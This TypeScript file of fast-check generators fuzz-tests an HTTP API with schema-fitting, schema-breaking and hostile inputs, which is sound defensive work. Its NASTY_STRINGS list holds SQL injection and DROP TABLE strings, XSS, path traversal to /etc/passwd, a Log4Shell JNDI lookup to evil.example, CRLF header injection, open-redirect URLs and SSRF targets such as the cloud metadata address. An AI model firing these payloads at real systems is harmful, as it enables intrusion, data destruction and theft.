// fast-check arbitraries for hostile HTTP input: values that fit a JSON schema (to get past validation and reach the
// services), values that break it (wrong types, out of range, too long), and strings chosen to trip parsers,
// databases, URL handling and logs.
import fc from 'fast-check'

export interface JsonSchema {
  type?: string | string[]
  nullable?: boolean
  enum?: unknown[]
  format?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  minItems?: number
  maxItems?: number
  items?: JsonSchema
  properties?: Record<string, JsonSchema>
  required?: string[]
  additionalProperties?: boolean | JsonSchema
  oneOf?: JsonSchema[]
  anyOf?: JsonSchema[]
  default?: unknown
}

/** Strings that have broken real parsers, queries, templates, URL checks and log formats. */
export const NASTY_STRINGS = [
  '',
  ' ',
  "' OR '1'='1' --",
  '"; DROP TABLE connections; --',
  "'); SELECT pg_sleep(10); --",
  '\\',
  '\u0000',
  'a\u0000b',
  '%00',
  '%',
  '%zz',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x1F',
  '９９',
  '٣',
  'true',
  '[]',
  '{}',
  'line\r\nSet-Cookie: injected=1',
  '%0d%0aLocation:%20https://evil.example',
  'javascript:alert(1)',
  '//evil.example',
  '/\\evil.example',
  'https://evil.example',
  'https://app.example.test@evil.example/',
  'https://app.example.test.evil.example/',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'http://127.0.0.1:1/',
  'http://169.254.169.254/latest/meta-data/',
  '\u202egnp.exe',
  '\ufeffidp',
  'ｉｄｐ',
  'İ',
  '\ud83d\ude00',
  '\ud800',
  'Ω≈ç√∫˜µ≤≥÷',
  '田中さんにあげて下さい',
  '𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐',
  'tbk_',
  'Bearer',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'a'.repeat(65),
  'a'.repeat(257),
  'a'.repeat(5000),
  'x'.repeat(40_000),
]

const nastyString = fc.constantFrom(...NASTY_STRINGS)

/** Any string: nasty ones, random unicode (including lone surrogates), long ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 100, maxLength: 3000 }) },
  { weight: 1, arbitrary: fc.tuple(nastyString, nastyString).map(([a, b]) => a + b) },
)

/** Any JSON value, hostile strings included. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: hostileString },
  {
    weight: 1,
    arbitrary: fc.constantFrom(null, 0, -1, 2 ** 53, -(2 ** 63), 1.5, 1e308, true, [], {}, [[[[[[[[[[]]]]]]]]]]),
  },
  { weight: 1, arbitrary: fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 1 }), { maxKeys: 5 }) },
)

function typesOf(schema: JsonSchema): string[] {
  if (Array.isArray(schema.type)) return schema.type
  if (schema.type) return [schema.type]
  if (schema.properties) return ['object']
  return ['string']
}

/** A value the schema accepts (formats approximated), so that requests get past validation. */
export function fitting(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.oneOf || schema.anyOf) return fc.oneof(...(schema.oneOf ?? schema.anyOf ?? []).map(fitting))
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const arbitraries = typesOf(schema).map((type) => fittingOfType(schema, type))
  if (schema.nullable) arbitraries.push(fc.constant(null))
  return arbitraries.length === 1 ? (arbitraries[0] as fc.Arbitrary<unknown>) : fc.oneof(...arbitraries)
}

function fittingOfType(schema: JsonSchema, type: string): fc.Arbitrary<unknown> {
  switch (type) {
    case 'string':
      return fittingString(schema)
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -(2 ** 31), max: schema.maximum ?? 2 ** 31 })
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e9, max: schema.maximum ?? 1e9, noNaN: true })
    case 'boolean':
      return fc.boolean()
    case 'null':
      return fc.constant(null)
    case 'array':
      return fc.array(fitting(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 5, 5),
      })
    case 'object': {
      const properties = schema.properties ?? {}
      const required = new Set(schema.required ?? [])
      const record = fc.record(
        Object.fromEntries(Object.entries(properties).map(([name, child]) => [name, fitting(child)])),
        { requiredKeys: [...required].filter((name) => name in properties) },
      )
      return record
    }
    default:
      return hostileJson
  }
}

function fittingString(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0
  const max = Math.max(min, Math.min(schema.maxLength ?? 80, 300))
  const fit = (arb: fc.Arbitrary<string>) => arb.filter((value) => value.length >= min && value.length <= max)
  switch (schema.format) {
    case 'uri':
      return fit(
        fc.oneof(
          fc.webUrl(),
          nastyString.filter((value) => /^[a-z]+:/i.test(value)),
        ),
      )
    case 'date-time':
      return fc.date({ noInvalidDate: true }).map((date) => date.toISOString())
    case 'uuid':
      return fc.uuid()
    default:
      return fit(
        fc.oneof(
          fc.string({ unit: 'grapheme', minLength: min, maxLength: max }),
          nastyString,
          fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,30}$/),
        ),
      )
  }
}

/** A value of the wrong type or out of the schema's bounds. */
export function breaking(schema: JsonSchema): fc.Arbitrary<unknown> {
  const options: fc.Arbitrary<unknown>[] = [hostileJson]
  const types = typesOf(schema)
  if (types.includes('string')) {
    options.push(fc.integer(), fc.constant(['a']), fc.constant({ a: 1 }))
    if (schema.maxLength !== undefined) options.push(fc.constant('z'.repeat(schema.maxLength + 1)))
  }
  if (types.includes('integer') || types.includes('number')) {
    options.push(fc.constantFrom('12', '1.5', 'abc', (schema.maximum ?? 1e15) + 1, (schema.minimum ?? -1e15) - 1))
  }
  if (types.includes('object')) options.push(fc.array(fc.jsonValue(), { maxLength: 3 }), fc.string())
  if (types.includes('array')) options.push(fc.string(), fc.dictionary(fc.string(), fc.string(), { maxKeys: 2 }))
  return fc.oneof(...options)
}

/** A value for a query parameter or path segment: fits the schema, breaks it, or is hostile text. */
export function parameterValue(schema: JsonSchema, known: string[]): fc.Arbitrary<string> {
  const options: Array<fc.WeightedArbitrary<string>> = [
    { weight: 3, arbitrary: fitting(schema).map(asText) },
    { weight: 2, arbitrary: breaking(schema).map(asText) },
    { weight: 3, arbitrary: hostileString },
  ]
  if (known.length > 0) options.push({ weight: 4, arbitrary: fc.constantFrom(...known) })
  return fc.oneof(...options)
}

function asText(value: unknown): string {
  return typeof value === 'string' ? value : (JSON.stringify(value) ?? '')
}

/** An object for a request body: fits the schema, has a broken or extra field, or is anything at all. */
export function bodyValue(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
  if (!schema) return hostileJson
  const properties = Object.entries(schema.properties ?? {})
  const options: Array<fc.WeightedArbitrary<unknown>> = [
    { weight: 4, arbitrary: fitting(schema) },
    { weight: 3, arbitrary: hostileJson },
  ]
  if (properties.length > 0) {
    const broken = fc
      .tuple(fitting(schema), fc.constantFrom(...properties), fc.nat())
      .chain(([value, [name, child]]) =>
        breaking(child).map((bad) => ({ ...(value as object), [name]: bad }) as Record<string, unknown>),
      )
    const extra = fc
      .tuple(fitting(schema), hostileString, hostileJson)
      .map(([value, key, extraValue]) => ({ ...(value as object), [key]: extraValue }))
    options.push({ weight: 4, arbitrary: broken }, { weight: 1, arbitrary: extra })
  }
  return fc.oneof(...options)
}

/** Header values Node accepts (visible ASCII, space, tab, obs-text), hostile in content. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  nastyString.map(toHeaderSafe),
  fc.string({ unit: 'binary-ascii', maxLength: 60 }).map(toHeaderSafe),
  fc.string({ unit: 'grapheme-ascii', minLength: 1000, maxLength: 8000 }).map(toHeaderSafe),
)

function toHeaderSafe(value: string): string {
  return value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?')
}

/** Lone surrogates replaced by U+FFFD, as a client encoding the text to UTF-8 would send them. */
export function wellFormed(value: string): string {
  return value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd')
}

const cursorPart: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    '99999999999999999999',
    '9223372036854775808',
    '-1',
    '1e3',
    '2026-13-45T10:00:00.000Z',
    '+275760-09-13T00:00:00.000Z',
    '-271821-04-20T00:00:00.000Z',
    '0000-01-01T00:00:00.000Z',
    '2026-01-01T10:00:00.000Z',
    '00000000-0000-4000-8000-000000000000',
    '00000000-0000-4000-8000-00000000000g',
    'a\u0000b',
    '\ud800',
    'x'.repeat(5000),
  ),
  fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
  fc.uuid(),
  fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String),
  hostileString,
  fc.jsonValue(),
)

/** A `cursor` as a client that decoded and re-encoded one would send: base64url JSON of a tampered sort key. */
export const cursorValue: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 4, arbitrary: fc.array(cursorPart, { minLength: 1, maxLength: 3 }) },
    { weight: 1, arbitrary: hostileJson },
  )
  .map((key) => Buffer.from(JSON.stringify(key) ?? '', 'utf8').toString('base64url'))
